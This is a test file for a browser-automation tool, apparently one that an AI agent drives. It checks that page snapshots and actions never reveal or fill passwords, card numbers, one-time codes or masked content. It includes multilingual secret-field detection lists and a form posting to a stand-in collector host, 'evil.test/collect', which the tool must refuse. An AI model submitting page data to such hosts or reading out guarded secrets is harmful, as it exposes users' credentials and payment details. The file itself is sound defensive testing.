import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { controls, neighbours, secretNames } from '../support/secret-fields.ts'
import { openStage, type Stage } from './support/stage.ts'

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage.close())

const canary = 'CANARY4111'
const digits = '9876543210'
const canaries = new RegExp(`${canary}|${digits}`)
const cards = [
  'cc-name',
  'cc-number',
  'cc-exp',
  'cc-exp-month',
  'cc-exp-year',
  'cc-csc',
  'cc-type',
  'section-a billing cc-number',
]
const fill = (control: (typeof controls)[number] | undefined, name: string) =>
  control?.(name, canary, digits, 'x') ?? ''
const secretFields = [
  ...neighbours.flatMap((beside) =>
    ['Card number', 'Passwort', 'IBAN', '暗証番号'].map((name) => fill(beside, name)),
  ),
  ...secretNames.map((name, index) => fill(controls[index % controls.length], name)),
  ...controls.map((control) => fill(control, 'Password')),
  ...controls.map((control) => fill(control, 'Security code')),
  `<select aria-label="Pay with"><option>${canary} •••• 4242</select>`,
  `<input type=password aria-label="Field password" value=${canary}>`,
  `<input type=hidden name=token value=${canary}>`,
  `<input aria-label="Field code" autocomplete=one-time-code value=${canary}>`,
  `<input aria-label="Field current" autocomplete=current-password value=${canary}>`,
  `<input aria-label="Field new" autocomplete=new-password value=${canary}>`,
  ...cards.map((token) => `<input aria-label="Field ${token}" autocomplete="${token}" value=${canary}>`),
  `<select aria-label="Field month" autocomplete=cc-exp-month><option>${canary}</select>`,
  `<textarea aria-label="Field area" autocomplete=one-time-code>${canary}</textarea>`,
  `<input aria-label="Field shown" name=userPassword value=${canary}>`,
  `<input aria-label="Field number" id=card_number value=${canary}>`,
  `<input aria-label="Field cvv" name=cvv2 value=${canary}>`,
  `<input aria-label="Field otp" name=otp value=${canary}>`,
  `<input name=f placeholder="Your password" value=${canary}>`,
  `<input name=f class=pwd-field aria-label="Field class" value=${canary}>`,
  `<input name=f formcontrolname=newPassword aria-label="Field data" value=${canary}>`,
  `<div><input name=f aria-label="Field toggle" value=${canary}><button type=button aria-label="Hide password">*</button></div>`,
  ...[
    'Passwort',
    'Kennwort',
    'Mot de passe',
    'Contraseña',
    'Senha',
    'Palavra-passe',
    'Wachtwoord',
    'Hasło',
    'Şifre',
    'Parola',
    'كلمة المرور',
    '密码',
    '密碼',
    'パスワード',
    'Password',
  ].map((word) => `<label>${word} <input name=f autocomplete=off value=${canary}></label>`),
  `<input aria-label="Field dots" style="-webkit-text-security:disc" value=${canary}>`,
  `<label><input type=checkbox> Label with <input type=password value=${canary}> inside</label>`,
  `<p data-pagehand=mask>${canary}</p>`,
  `<div data-pagehand=mask><label>Masked <input value=${canary}></label><button>${canary}</button><a href="/${canary}">x</a></div>`,
  `<p class=private>${canary} <button>${canary}</button></p>`,
  `<button aria-labelledby=hiddenname>Named by a masked part</button><p id=hiddenname data-pagehand=mask>${canary}</p>`,
  `<div role=combobox tabindex=0 aria-label=Town><b class=private>${canary}</b></div>`,
  `<label>Town</label><div class=my-select tabindex=0><b class=private>${canary}</b></div>`,
  `<div data-pagehand=ignore><p>${canary}</p><input value=${canary}></div>`,
  `<a href="/reset?token=${canary}#${canary}">Reset</a>`,
  `<section aria-label="Region" data-pagehand=mask><h2>${canary}</h2><button>Inside</button></section>`,
]

describe('secrets', () => {
  it.each(secretFields)('does not tell the value in %s', async (html) => {
    const { snapshot, tab } = await stage.show(`<h1>Page</h1><form name=f>${html}</form>`, {
      mask: ['.private', 'not((valid'],
    })
    const first = JSON.stringify(await snapshot({ about: canary }))
    expect(first).not.toMatch(canaries)
    // A value the visitor types is no more told than one that was there.
    await tab.evaluate((value) => {
      for (const field of document.querySelectorAll<HTMLInputElement>('input,textarea,[contenteditable]')) {
        if (field.isContentEditable) field.innerText = value
        else field.value = field.type === 'number' ? '9876543210' : value
        field.dispatchEvent(new InputEvent('input', { bubbles: true }))
      }
    }, `${canary}${canary}`)
    expect(JSON.stringify(await snapshot())).not.toMatch(canaries)
  })

  it.each(['mask', 'ignore'])('does not tell what a list shows as chosen under the mark %s', async (mark) => {
    const { snapshot } = await stage.show(
      `<div><b data-pagehand=${mark}>${canary}</b><input role=combobox aria-label=Town></div>`,
    )
    expect(JSON.stringify(await snapshot())).not.toContain(canary)
  })

  it('sees the check catch a field that is no secret', async () => {
    const { snapshot } = await stage.show(`<input aria-label=Town value=${canary}>`)
    expect(JSON.stringify(await snapshot())).toContain(canary)
  })

  it('does not take the fields beside a password for one', async () => {
    const { snapshot } =
      await stage.show(`<form aria-label="Password forgotten"><label>Email <input value=a></label>
      <label>Passport <input value=b></label><label>Impasse <input value=c></label><label>One-time gift <input value=e></label>
      <label>Parola chiave <input value=f></label><label>كلمة البحث <input value=g></label><button>Reset password</button></form>
      <h2>Reset password</h2><form><input name=q value=h></form><p>Town <input value=i> Password <input type=password></p>
      <form><input aria-label=User value=d><input type=password aria-label=P><button type=button>Show password</button></form>`)
    const { indexedElements } = await snapshot()
    expect(indexedElements.flatMap(({ value }) => value ?? [])).toEqual([
      'a',
      'b',
      'c',
      'e',
      'f',
      'g',
      'h',
      'i',
      'd',
    ])
  })

  it('does not tell a password that a button has made readable', async () => {
    const { snapshot, run } =
      await stage.show(`<label>Secret <input id=field type=password value=${canary}></label>
      <button onclick="field.type='text'">Show</button><label id=around><input type=checkbox> Keep</label>`)
    await snapshot()
    expect(await run('click', 'Show')).toMatchObject({ success: true })
    expect(JSON.stringify(await snapshot())).not.toContain(canary)
    expect(await run('type', 'Secret', 'x')).toMatchObject({ error: 'blocked_by_policy' })
  })

  it('does not tell one that was made readable before the first look', async () => {
    const { snapshot, tab } = await stage.show(
      `<label>Secret <input id=field type=password value=${canary}></label><button onclick="field.type='text'">Show</button>`,
    )
    await tab.click('button')
    expect(JSON.stringify(await snapshot())).not.toContain(canary)
  })

  it('takes a list to choose from for no password, whatever it says to keep suggestions away', async () => {
    const list = 'role=combobox aria-haspopup=listbox aria-expanded=false autocomplete=new-password'
    const { snapshot } = await stage.show(`<input aria-label=Town value=Bern ${list}>
      <input type=password aria-label=Field value=${canary} ${list}><input aria-label="New password" value=${canary} ${list}>
      <input aria-label=Field value=${canary} autocomplete=new-password role=combobox>`)
    const told = JSON.stringify(await snapshot())
    expect(told).toContain('Bern')
    expect(told).not.toContain(canary)
  })

  it('does not write the number of a card in parts', async () => {
    const { snapshot, run, tab } =
      await stage.show(`<input aria-label=Note><form><input aria-label=A maxlength=4><input aria-label=B maxlength=4>
      <input aria-label=C maxlength=4><input aria-label=D maxlength=4></form>`)
    await snapshot()
    expect(await run('type', 'Note', 'call 4111 1111')).toMatchObject({ success: true })
    expect(await run('append', 'Note', ' 1111 1111')).toMatchObject({ error: 'blocked_by_policy' })
    expect(await run('type', 'Note', '4111.1111.1111.111')).toMatchObject({ success: true })
    expect(await run('press_key', 'Note', '1')).toMatchObject({ error: 'blocked_by_policy' })
    for (const name of ['A', 'B', 'C'])
      expect(await run('type', name, name === 'A' ? '4111' : '1111')).toMatchObject({ success: true })
    expect(await run('type', 'D', '1111')).toMatchObject({ error: 'blocked_by_policy' })
    expect(await run('type', 'D', '1112')).toMatchObject({ success: true })
    expect(await tab.getByLabel('Note').inputValue()).toBe('4111.1111.1111.111')
  })

  it('does not send a form to another site', async () => {
    const { snapshot, run, tab } =
      await stage.show(`<form action="http://evil.test/collect" onsubmit="document.title='heard'"><input name=q aria-label=Search><button>Go</button></form>
      <form action="/here"><input aria-label=Other><button formaction="http://evil.test/">Away</button><button>Stay</button></form>`)
    await snapshot()
    for (const [action, name, input] of [
      ['click', 'Go'],
      ['press_key', 'Search', 'Enter'],
      ['submit', 'Search'],
      ['click', 'Away'],
    ] as const)
      expect(await run(action, name, input)).toMatchObject({ success: false, error: 'cross_origin' })
    expect(tab.url()).toContain(stage.origin)
    expect(await tab.title()).not.toBe('heard')
    await tab.route('**/here*', (route) => route.fulfill({ body: 'sent' }))
    await run('click', 'Stay').catch(() => undefined)
    await tab.waitForURL('**/here*')
  })

  it('tells no query of an address it has gone to', async () => {
    const { snapshot, tab } = await stage.show('<p>Hello</p>')
    await snapshot()
    const told = await tab.evaluate(async () => {
      const step = { action: 'navigate', elementId: -1, url: '#a?n=Ada', description: '' } as const
      return [await window.hands.run({ ...step }), window.location.href]
    })
    expect(told).toMatchObject([
      { success: true, url: expect.not.stringContaining('Ada') },
      expect.stringContaining('Ada'),
    ])
  })

  it('marks secret fields, and tells the marks of the owner', async () => {
    const { snapshot } =
      await stage.show(`<input type=password aria-label=P><input aria-label=C autocomplete=cc-number>
      <div data-pagehand=block><button>Block</button></div><button data-pagehand=confirm>Confirm</button><input data-pagehand=mask aria-label=M>`)
    const { indexedElements } = await snapshot()
    expect(indexedElements.map(({ secret, mark }) => secret ?? mark)).toEqual([
      true,
      true,
      'block',
      'confirm',
      'mask',
    ])
  })

  it('never types into passwords, cards, codes, files or what the owner has blocked', async () => {
    const { run, tab, snapshot } =
      await stage.show(`<input type=password aria-label=P><input aria-label=C autocomplete=cc-number><input aria-label=O autocomplete=one-time-code>
      <input type=file aria-label=F><div data-pagehand=block><input aria-label=B><button>Press</button></div><div role=textbox tabindex=0 aria-label=Wrapper><input type=password></div>`)
    for (const name of ['P', 'C', 'O', 'B', 'Wrapper', 'F']) {
      for (const action of ['type', 'append', 'set_value', 'press_key']) {
        expect([name, action, (await run(action, name, 'x')).error]).toEqual([
          name,
          action,
          name === 'Wrapper' && action === 'press_key' ? 'no_effect' : 'blocked_by_policy',
        ])
      }
    }
    expect(await run('click', 'F')).toMatchObject({ error: 'blocked_by_policy' })
    expect(await run('click', 'Press')).toMatchObject({ error: 'blocked_by_policy' })
    expect(await run('clear', 'B')).toMatchObject({ error: 'blocked_by_policy' })
    await tab.evaluate(() => document.querySelector<HTMLInputElement>('input[type=password]')?.focus())
    expect(await run('press_key', undefined, 'x')).toMatchObject({ error: 'blocked_by_policy' })
    const values = await tab.evaluate(() => [...document.querySelectorAll('input')].map(({ value }) => value))
    expect(values.join('')).toBe('')
    expect((await snapshot()).previouslyFilledFields).toEqual([])
  })

  it('reads no secret aloud', async () => {
    const { run } =
      await stage.show(`<div tabindex=0 aria-label=Box>Words <span data-pagehand=mask>${canary}</span><input type=password value=${canary}></div>
      <select aria-label=Month autocomplete=cc-exp><option>${canary}</select>`)
    expect(JSON.stringify(await run('read', 'Box'))).not.toContain(canary)
    expect(JSON.stringify(await run('read'))).not.toContain(canary)
    expect(await run('find', undefined, canary)).toMatchObject({ error: 'element_not_found' })
    expect(await run('list_options', 'Month')).toMatchObject({ error: 'blocked_by_policy' })
  })
})
